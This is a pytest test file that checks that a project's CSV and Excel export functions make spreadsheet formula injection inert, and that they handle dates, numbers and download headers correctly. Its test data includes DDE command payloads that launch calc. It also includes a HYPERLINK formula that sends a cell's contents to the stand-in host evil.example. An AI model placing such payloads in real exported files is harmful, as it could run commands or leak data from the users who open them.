"""Files that no spreadsheet will run."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from socialvalue.core.exports import csv_response, xlsx_response

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
COMMANDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"Click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
)
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]


def csv_rows(rows):
    response = csv_response("people", ["Name"], rows)
    text = b"".join(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text[1:], newline="")))


def xlsx_cells(rows):
    response = xlsx_response("people", ["Name"], rows)
    sheet = load_workbook(BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def in_a_cell(*parts):
    return datetime(*parts)  # noqa: DTZ001 - a workbook knows no time zones


def test_there_are_forty_payloads():
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_are_inert_in_csv(payload):
    assert csv_rows([[payload]])[1] == [f"'{payload}"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_are_inert_in_xlsx(payload):
    cell = xlsx_cells([[payload]])[1][0]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


def test_formulas_in_a_header_are_inert_too():
    assert b"".join(csv_response("x", ["=1+1"], [])).decode().strip("\ufeff\r\n") == "'=1+1"
    assert load_workbook(BytesIO(xlsx_response("x", ["=1+1"], []).content)).active["A1"].value == "'=1+1"


def test_plain_words_numbers_and_commas_come_through():
    rows = [['Smith, "Jo" & Sons\nLtd', -5, Decimal("-1.50"), None, date(2026, 11, 22), True]]
    assert csv_rows(rows)[1] == ['Smith, "Jo" & Sons\nLtd', "-5", "-1.50", "", "2026-11-22", "True"]
    values = [cell.value for cell in xlsx_cells(rows)[1]]
    assert values == ['Smith, "Jo" & Sons\nLtd', -5, -1.5, None, in_a_cell(2026, 11, 22), True]


def test_a_workbook_holds_real_dates_and_the_times_of_london():
    cells = xlsx_cells([[date(2026, 11, 22), datetime(2026, 7, 1, 11, 30, tzinfo=UTC)]])[1]
    assert [cell.value for cell in cells] == [in_a_cell(2026, 11, 22), in_a_cell(2026, 7, 1, 12, 30)]
    assert [cell.number_format for cell in cells] == ["d mmm yyyy", "d mmm yyyy hh:mm"]


def test_text_that_looks_like_a_number_or_an_address_stays_text():
    cells = xlsx_cells([["00123", "https://example.org/a"]])[1]
    assert [(cell.value, cell.data_type, cell.hyperlink) for cell in cells] == [
        ("00123", "s", None),
        ("https://example.org/a", "s", None),
    ]


def test_characters_a_workbook_cannot_hold_are_left_out():
    assert xlsx_cells([["Bell\x07 Ltd\x00"]])[1][0].value == "Bell Ltd"


@pytest.mark.parametrize(
    ("make", "kind", "suffix"), [(csv_response, "text/csv", "csv"), (xlsx_response, "openxml", "xlsx")]
)
def test_files_come_as_downloads(make, kind, suffix):
    response = make("my-contracts", ["A"], [])
    assert kind in response["Content-Type"]
    assert response["Content-Disposition"] == f'attachment; filename="my-contracts.{suffix}"'
